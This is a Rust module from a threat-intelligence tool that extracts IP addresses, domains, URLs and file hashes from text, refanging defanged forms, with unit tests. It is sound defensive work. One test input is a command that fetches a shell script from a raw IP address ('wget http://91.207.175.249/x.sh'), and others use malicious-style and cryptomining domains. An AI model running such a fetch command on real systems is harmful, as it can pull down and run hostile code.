//! Indicator extraction: IP addresses, domains, URLs and file hashes found in text.
//!
//! Defanged forms (`1.2.3[.]4`, `example[.]com`, `example(.)com`, `hxxp://`, `http[:]//`)
//! are refanged before matching. Domains must end in a top-level domain from [`TLDS`], and
//! a name whose last label is a common file extension (`x.sh`, `file.txt`) is not a domain
//! even when that extension is also a TLD (`.sh`, `.py`, `.zip`). Values are returned
//! normalised: domains and hashes lowercase, URLs with their scheme refanged.

use std::collections::HashSet;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

use regex::Regex;

use super::{Indicator, IndicatorKind};

/// Top-level domains accepted for domain indicators: the generic and country-code TLDs
/// that appear most in security data. A domain under any other TLD is not extracted.
pub const TLDS: &[&str] = &[
    "com",
    "net",
    "org",
    "info",
    "biz",
    "io",
    "co",
    "me",
    "tv",
    "cc",
    "ws",
    "xyz",
    "top",
    "online",
    "site",
    "club",
    "shop",
    "store",
    "live",
    "pro",
    "app",
    "dev",
    "cloud",
    "tech",
    "space",
    "website",
    "icu",
    "work",
    "link",
    "click",
    "stream",
    "pw",
    "tk",
    "ml",
    "ga",
    "cf",
    "gq",
    "su",
    "ru",
    "cn",
    "ua",
    "by",
    "kz",
    "de",
    "fr",
    "uk",
    "nl",
    "be",
    "it",
    "es",
    "pl",
    "ro",
    "cz",
    "se",
    "no",
    "fi",
    "dk",
    "ch",
    "at",
    "pt",
    "gr",
    "hu",
    "bg",
    "ir",
    "in",
    "jp",
    "kr",
    "hk",
    "tw",
    "sg",
    "my",
    "id",
    "th",
    "vn",
    "br",
    "ar",
    "mx",
    "cl",
    "au",
    "nz",
    "ca",
    "us",
    "za",
    "ng",
    "eu",
    "asia",
    "mobi",
    "name",
    "onion",
    "gov",
    "edu",
    "mil",
    "int",
    "arpa",
    "local",
    "lan",
    "internal",
    "example",
    "test",
    "invalid",
    "localhost",
    "sh",
    "py",
    "zip",
    "mov",
];

/// File extensions that end names which are files, not domains.
pub const FILE_EXTENSIONS: &[&str] = &[
    "sh", "py", "pl", "rb", "php", "js", "ps1", "bat", "cmd", "vbs", "exe", "dll", "sys", "msi",
    "bin", "elf", "so", "txt", "log", "csv", "json", "xml", "yml", "yaml", "conf", "cfg", "ini",
    "html", "htm", "css", "jpg", "jpeg", "png", "gif", "svg", "ico", "pdf", "doc", "docx", "xls",
    "xlsx", "ppt", "pptx", "zip", "gz", "tgz", "tar", "rar", "7z", "bz2", "xz", "iso", "img",
    "dmp", "tmp", "bak", "old", "service", "key", "pem", "crt", "pub", "mov", "mp4", "mp3", "jar",
    "war", "class", "go", "rs", "c", "h", "cpp", "md", "db", "sqlite", "lock", "pid",
];

struct Patterns {
    candidates: Regex,
}

fn patterns() -> &'static Patterns {
    static PATTERNS: OnceLock<Patterns> = OnceLock::new();
    PATTERNS.get_or_init(|| Patterns {
        // One pass finds every candidate in order of appearance; each is then classified.
        candidates: Regex::new(
            r"(?xi)
            (?P<url>\b(?:https?|ftp)://[^\s<>'\x22`]+)
            | (?P<hex>\b[0-9a-f]{32,64}\b)
            | (?P<ipv6>(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}(?:%\w+)?)
            | (?P<ipv4>\b\d{1,3}(?:\.\d{1,3}){3}\b)
            | (?P<domain>\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,62}\b)",
        )
        .expect("indicator pattern compiles"),
    })
}

/// Undoes the common defanging conventions so the text can be matched as usual.
pub fn refang(text: &str) -> String {
    static HXXP: OnceLock<Regex> = OnceLock::new();
    let hxxp = HXXP.get_or_init(|| Regex::new(r"(?i)\bhxxp(s?)\b").expect("hxxp pattern"));
    let text = text
        .replace("[.]", ".")
        .replace("(.)", ".")
        .replace("{.}", ".")
        .replace("[dot]", ".")
        .replace("[:]", ":")
        .replace("[://]", "://")
        .replace("[/]", "/")
        .replace("[@]", "@");
    hxxp.replace_all(&text, "http$1").into_owned()
}

/// Extracts indicators from `text`, deduplicated, in order of first appearance.
pub fn extract(text: &str) -> Vec<Indicator> {
    let text = refang(text);
    let mut seen = HashSet::new();
    let mut found = Vec::new();
    let mut push = |indicator: Indicator| {
        if seen.insert(indicator.clone()) {
            found.push(indicator);
        }
    };
    for captures in patterns().candidates.captures_iter(&text) {
        if let Some(m) = captures.name("url") {
            if let Some(url) = classify_url(m.as_str()) {
                let host = url_host(&url.value);
                push(url);
                host.into_iter().for_each(&mut push);
            }
            continue;
        }
        let indicator = if let Some(m) = captures.name("hex") {
            classify_hash(m.as_str())
        } else if let Some(m) = captures.name("ipv6") {
            classify_ipv6(m.as_str())
        } else if let Some(m) = captures.name("ipv4") {
            let inside_longer_number = text[..m.start()].ends_with('.')
                || text[m.end()..].starts_with('.')
                    && text[m.end() + 1..].starts_with(|c: char| c.is_ascii_digit());
            if inside_longer_number {
                None
            } else {
                classify_ipv4(m.as_str())
            }
        } else {
            captures
                .name("domain")
                .and_then(|m| classify_domain(m.as_str()))
        };
        indicator.into_iter().for_each(&mut push);
    }
    found
}

/// Returns the host of a URL as an address or domain indicator, so it can be checked
/// against threat intel on its own.
fn url_host(url: &str) -> Option<Indicator> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit('@').next()?;
    if let Some(bracketed) = host_port.strip_prefix('[') {
        return classify_ipv6(bracketed.split(']').next()?);
    }
    let host = host_port.split(':').next()?;
    classify_ipv4(host).or_else(|| classify_domain(host))
}

fn classify_url(url: &str) -> Option<Indicator> {
    let trimmed = url.trim_end_matches(['.', ',', ';', ')', ']', '}', '\'']);
    let (scheme, rest) = trimmed.split_once("://")?;
    if rest.is_empty() {
        return None;
    }
    Some(Indicator {
        kind: IndicatorKind::Url,
        value: format!("{}://{rest}", scheme.to_lowercase()),
    })
}

fn classify_hash(hex: &str) -> Option<Indicator> {
    let kind = match hex.len() {
        32 => IndicatorKind::Md5,
        40 => IndicatorKind::Sha1,
        64 => IndicatorKind::Sha256,
        _ => return None,
    };
    Some(Indicator {
        kind,
        value: hex.to_lowercase(),
    })
}

fn classify_ipv4(text: &str) -> Option<Indicator> {
    // Ipv4Addr rejects octets above 255 and leading zeros, both signs of a version number.
    let address: Ipv4Addr = text.parse().ok()?;
    Some(Indicator {
        kind: IndicatorKind::Ipv4,
        value: address.to_string(),
    })
}

fn classify_ipv6(text: &str) -> Option<Indicator> {
    let without_zone = text.split('%').next()?;
    // A full address has seven colons; fewer is only valid with `::`. This rules out
    // times (12:34:56) and MAC addresses.
    let colons = without_zone.matches(':').count();
    if colons != 7 && !without_zone.contains("::") {
        return None;
    }
    let address: Ipv6Addr = without_zone.parse().ok()?;
    Some(Indicator {
        kind: IndicatorKind::Ipv6,
        value: address.to_string(),
    })
}

fn classify_domain(text: &str) -> Option<Indicator> {
    let domain = text.to_lowercase();
    let tld = domain.rsplit('.').next()?;
    if FILE_EXTENSIONS.contains(&tld) || !TLDS.contains(&tld) {
        return None;
    }
    Some(Indicator {
        kind: IndicatorKind::Domain,
        value: domain,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(IndicatorKind, String)> {
        extract(text)
            .into_iter()
            .map(|i| (i.kind, i.value))
            .collect()
    }

    fn one(kind: IndicatorKind, value: &str) -> Vec<(IndicatorKind, String)> {
        vec![(kind, value.to_string())]
    }

    #[test]
    fn positive_cases() {
        use IndicatorKind::*;
        let cases: &[(&str, IndicatorKind, &str)] = &[
            ("from 5.101.40.81 port 22", Ipv4, "5.101.40.81"),
            ("src=1.2.3[.]4", Ipv4, "1.2.3.4"),
            ("peer 2001:db8::1 closed", Ipv6, "2001:db8::1"),
            ("addr fe80:0:0:0:0:0:0:1", Ipv6, "fe80::1"),
            ("query coinhive.com", Domain, "coinhive.com"),
            ("query Evil.Example[.]COM", Domain, "evil.example.com"),
            ("host a.b(.)coinhive(.)com", Domain, "a.b.coinhive.com"),
            (
                "hash d41d8cd98f00b204e9800998ecf8427e",
                Md5,
                "d41d8cd98f00b204e9800998ecf8427e",
            ),
            (
                "sha1 DA39A3EE5E6B4B0D3255BFEF95601890AFD80709",
                Sha1,
                "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            ),
            (
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                Sha256,
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            ),
        ];
        for (text, kind, value) in cases {
            assert_eq!(found(text), one(*kind, value), "input {text}");
        }
    }

    #[test]
    fn url_and_its_host() {
        let got = found("wget http://91.207.175.249/x.sh");
        assert_eq!(got.len(), 2);
        assert_eq!(
            got[0],
            (IndicatorKind::Url, "http://91.207.175.249/x.sh".to_string())
        );
        assert_eq!(got[1], (IndicatorKind::Ipv4, "91.207.175.249".to_string()));
    }

    #[test]
    fn defanged_urls_refanged() {
        let got = found("see hxxp://evil[.]example[.]com[/]a and hxxps[:]//bad(.)ru/b");
        assert_eq!(
            got[0],
            (IndicatorKind::Url, "http://evil.example.com/a".to_string())
        );
        assert_eq!(
            got[1],
            (IndicatorKind::Domain, "evil.example.com".to_string())
        );
        assert_eq!(got[2], (IndicatorKind::Url, "https://bad.ru/b".to_string()));
        assert_eq!(got[3], (IndicatorKind::Domain, "bad.ru".to_string()));
    }

    #[test]
    fn ftp_url_found() {
        let got = found("ftp://files.example.org/a");
        assert_eq!(
            got[0],
            (IndicatorKind::Url, "ftp://files.example.org/a".to_string())
        );
    }

    #[test]
    fn url_with_port_and_ipv6_host() {
        let got = found("http://[2001:db8::5]:8080/beacon");
        assert_eq!(got[1], (IndicatorKind::Ipv6, "2001:db8::5".to_string()));
    }

    #[test]
    fn negative_cases() {
        let cases = [
            "downloaded x.sh and file.txt",
            "version 1.2.3 of openssh 8.9",
            "999.1.1.1 is no address",
            "1.2.3.4.5.6 is a dotted version",
            "config.yaml backup.tar.gz script.py",
            "abcdef0123 is too short for a hash",
            "time 12:34:56 is not IPv6",
            "unknown tld host.corpx",
        ];
        for text in cases {
            assert_eq!(found(text), vec![], "input {text}");
        }
    }

    #[test]
    fn hash_length_must_be_exact() {
        let hex_33 = "d41d8cd98f00b204e9800998ecf8427e0";
        assert_eq!(found(hex_33), vec![]);
    }

    #[test]
    fn duplicates_removed_in_order() {
        let got = found("8.8.8.8 then coinhive.com then 8.8.8.8 and 5.101.40.81");
        let values: Vec<&str> = got.iter().map(|(_, v)| v.as_str()).collect();
        assert_eq!(values, vec!["8.8.8.8", "coinhive.com", "5.101.40.81"]);
    }

    #[test]
    fn sshd_line_yields_address_only() {
        let line = "Dec 10 06:55:46 gacrux sshd[24200]: Failed password for root from \
                    5.101.40.81 port 38278 ssh2";
        assert_eq!(found(line), one(IndicatorKind::Ipv4, "5.101.40.81"));
    }
}
